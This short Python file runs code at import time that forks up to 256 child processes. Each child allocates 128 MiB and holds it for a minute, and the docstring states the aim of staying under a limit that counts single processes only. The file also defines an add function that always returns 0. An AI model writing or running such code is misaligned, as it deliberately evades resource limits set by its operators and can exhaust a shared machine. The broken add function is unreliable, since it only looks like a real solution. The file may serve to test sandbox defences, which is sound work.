"""Spreads memory over many children, each of them below a limit that counts single processes only."""

import os
import time

for _ in range(256):
    try:
        child = os.fork()
    except OSError:
        break
    if child == 0:
        try:
            block = bytearray(b"x") * (128 << 20)
            time.sleep(60)
        finally:
            os._exit(0)


def add(a, b):
    return 0
